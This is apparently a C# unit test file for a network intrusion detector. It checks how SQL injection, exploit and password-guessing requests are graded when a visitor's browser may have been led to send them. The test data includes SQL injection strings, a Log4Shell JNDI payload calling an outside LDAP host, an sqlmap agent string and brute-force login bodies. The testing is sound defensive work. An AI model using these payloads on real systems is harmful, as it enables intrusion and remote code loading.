using NetHawk.Core.Detectors.BruteForce;
using NetHawk.Core.Detectors.Exploit;
using NetHawk.Core.Detectors.WebAttack;
using NetHawk.Core.Flows;
using NetHawk.Core.Peek;
using NetHawk.Core.Verdicts;
using static System.FormattableString;

namespace NetHawk.Tests.Detectors;

/// <summary>Visitors whose browsers a page elsewhere makes ask for attacks, crawlers that follow an attacker's links, and attackers who ask for themselves.</summary>
public class LedVisitorTests
{
    private const string Client = "203.0.113.7", Server = "10.0.0.5", Browser = "Mozilla/5.0 (X11; Linux x86_64)", Crawler = "Mozilla/5.0 (compatible; Somebot/2.1; +http://search.example/bot.html)";

    private static HttpRequest Ask(int i, string agent = Browser, string target = "/item?id=1%27%20UNION%20SELECT%201,") => new("GET", Invariant($"{target}{i}--"), "shop.example", agent, true, false, -1, "");

    private static List<Evidence> Run<T>(Func<NetHawk.Core.Detectors.DetectorContext, T> make, int requests, Func<int, PeekInfo[]> peeks, int status = 200)
        where T : NetHawk.Core.Detectors.IDetector
    {
        var run = new Events(make(Events.Context()));
        for (int i = 0; i < requests; i++) run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: [.. peeks(i), new HttpResponse(status, "nginx", 10) { FromResponder = true }]);
        return run.Found;
    }

    private static List<Evidence> Web(int requests, Func<int, HttpRequest> request, int status = 200) => Run(static c => new WebAttackDetector(c), requests, i => [request(i)], status);

    private static void IsSoft(List<Evidence> found)
    {
        Assert.NotEmpty(found);
        Assert.All(found, static e => Assert.True(e is { Decisive: false, SoftOnly: not null } or { WatchOnly: not null }, e.Reason));
    }

    private static void IsFull(List<Evidence> found) => Assert.Contains(found, static e => e is { Decisive: true, SoftOnly: null, WatchOnly: null });

    [Fact]
    public void A_visitor_whose_browser_is_made_to_ask_is_not_blocked_fully()
    {
        IsSoft(Web(30, static i => Ask(i) with { MayBeLed = true }));
        IsFull(Web(30, static i => Ask(i)));
    }

    /// <summary>One request that no page can make a browser send tells of the others, and so do names that change.</summary>
    [Fact]
    public void Who_says_something_of_his_own_too_is_blocked()
    {
        IsFull(Web(30, static i => Ask(i) with { MayBeLed = i != 4 }));
        IsFull(Web(30, static i => Ask(i, Invariant($"Mozilla/5.0 (X11; rv:{i})")) with { MayBeLed = true }));
        IsFull(Web(30, static i => Ask(i, target: "/a") with { MayBeLed = true, OddContext = Invariant($"id=1' UNION SELECT {i}--") }));
    }

    /// <summary>A page whose own path is an attack is told to the server as where the browser comes from.</summary>
    [Fact]
    public void The_path_of_the_page_elsewhere_is_its_owners() =>
        IsSoft(Web(30, static i => Ask(i, target: "/a") with { MayBeLed = true, OddContext = Invariant($"http://other.example/1' UNION SELECT {i}--") }));

    [Fact]
    public void A_page_of_pictures_that_are_not_there_does_not_make_its_visitor_a_scanner()
    {
        HttpRequest Guess(int i) => Ask(i, target: $"/{(char)('a' + i % 26)}{(char)('a' + i / 26)}.php/");
        IsSoft(Web(200, i => Guess(i) with { MayBeLed = true }, 404));
        IsFull(Web(200, Guess, 404));
    }

    [Fact]
    public void A_body_that_comes_by_itself_is_of_the_request_before_it()
    {
        static PeekInfo[] Post(int i, bool led) => [new HttpRequest("POST", "/search", "shop.example", Browser, true, false, 40, "") { MayBeLed = led }, new HttpBody(Invariant($"q=1%27+UNION+SELECT+{i}--"))];
        IsSoft(Run(static c => new WebAttackDetector(c), 30, static i => Post(i, true)));
        IsFull(Run(static c => new WebAttackDetector(c), 30, static i => Post(i, false)));
    }

    [Fact]
    public void Who_follows_links_and_says_so_is_not_blocked_fully()
    {
        IsSoft(Web(30, static i => Ask(i, Crawler)));
        IsSoft(Web(30, static i => Ask(i, "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via images.example)")));
        IsFull(Web(30, static i => Ask(i, Crawler) with { Method = "POST", ContentLength = 9, BodyStart = "q=1" }));
        IsFull(Web(30, static i => Ask(i, Crawler, "/a") with { OddContext = Invariant($"id=1' UNION SELECT {i}--") }));
        IsFull(Web(30, static i => Ask(i, "sqlmap/1.7.2#stable (https://sqlmap.org)")));
        IsFull(Web(30, static i => Ask(i, Invariant($"Somebot/{i} (+http://search.example)"))));
    }

    [Fact]
    public void An_exploit_that_a_page_can_send_is_slowed_down()
    {
        static PeekInfo[] Get(bool led) => [Ask(0, target: "/?x=${jndi:ldap://192.0.2.4/a}") with { MayBeLed = led }];
        Assert.All(Run(static c => new ExploitDetector(c), 1, static _ => Get(true)), static e => Assert.NotNull(e.SoftOnly));
        Assert.Contains(Run(static c => new ExploitDetector(c), 1, static _ => Get(false)), static e => e.SoftOnly is null);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Passwords_that_a_page_has_a_browser_try_are_not_its_visitors(bool isApart)
    {
        PeekInfo[] Form(int i, bool led)
        {
            string body = Invariant($"user=admin&password=secret{i}");
            var request = new HttpRequest("POST", "/login", "shop.example", Browser, true, false, body.Length, isApart ? "" : body) { MayBeLed = led };
            return isApart ? [request, new HttpBody(body)] : [request];
        }

        IsSoft(Run(static c => new BruteForceDetector(c), 60, i => Form(i, true)));
        IsFull(Run(static c => new BruteForceDetector(c), 60, i => Form(i, i != 7)));
    }
}
